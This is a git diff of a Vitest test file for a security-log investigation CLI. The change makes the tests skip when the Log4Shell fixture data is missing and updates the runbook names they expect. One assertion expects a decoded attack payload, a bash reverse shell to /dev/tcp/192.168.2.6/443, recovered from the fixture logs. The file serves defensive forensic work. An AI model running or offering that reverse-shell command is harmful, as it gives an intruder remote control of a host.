@@ -2,15 +2,20 @@ import { mkdtemp, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
-import { securityLogsSource } from '../logs/__fixtures__/log4shell-database.js';
+import {
+  securityLogsMissing,
+  securityLogsSource,
+  withSharedLogs,
+} from '../logs/__fixtures__/log4shell-database.js';
 import { logsCommand } from './logs-command.js';
 
 let dir: string;
 beforeAll(async () => {
+  if (securityLogsMissing !== undefined) return;
   dir = await mkdtemp(join(tmpdir(), 'investigator-logs-cli-'));
 });
 afterAll(async () => {
-  await rm(dir, { recursive: true, force: true });
+  if (dir !== undefined) await rm(dir, { recursive: true, force: true });
 });
 afterEach(() => {
   vi.restoreAllMocks();
@@ -33,7 +38,7 @@ async function run(...args: string[]): Promise<{ stdout: string; stderr: string 
   return { stdout, stderr };
 }
 
-describe('investigator logs', () => {
+describe.skipIf(securityLogsMissing !== undefined)(withSharedLogs('investigator logs'), () => {
   it('loads with progress, lists tables, queries, and refuses a write with exit code 1', async () => {
     const db = join(dir, 'logs.duckdb');
     const load = await run(
@@ -65,14 +70,22 @@ describe('investigator logs', () => {
 
     const runbooks = await run('runbooks');
     expect(runbooks.stdout).toContain(
-      'log4shell-reverse-shell: Log4Shell reverse shell on a Linux web server',
+      "service-account-commands-and-connections: A Linux server's commands and outbound connections",
     );
-    const shell = await run('runbook', 'log4shell-reverse-shell', '--db', db, '--json', '--max-rows', '100');
+    const shell = await run(
+      'runbook',
+      'service-account-commands-and-connections',
+      '--db',
+      db,
+      '--json',
+      '--max-rows',
+      '100',
+    );
     expect(
       JSON.parse(shell.stdout).rows.map((row: { decoded_payload: unknown }) => row.decoded_payload),
     ).toContain('bash -i >& /dev/tcp/192.168.2.6/443 0>&1\n');
     const unknown = await run('runbook', 'nope', '--db', db);
-    expect(unknown.stderr).toMatch(/no runbook "nope"; expected one of cloudtrail-s3-exfiltration/);
+    expect(unknown.stderr).toMatch(/no runbook "nope"; expected one of federation-and-mailbox-timeline/);
     expect(process.exitCode).toBe(2);
     process.exitCode = undefined;
 
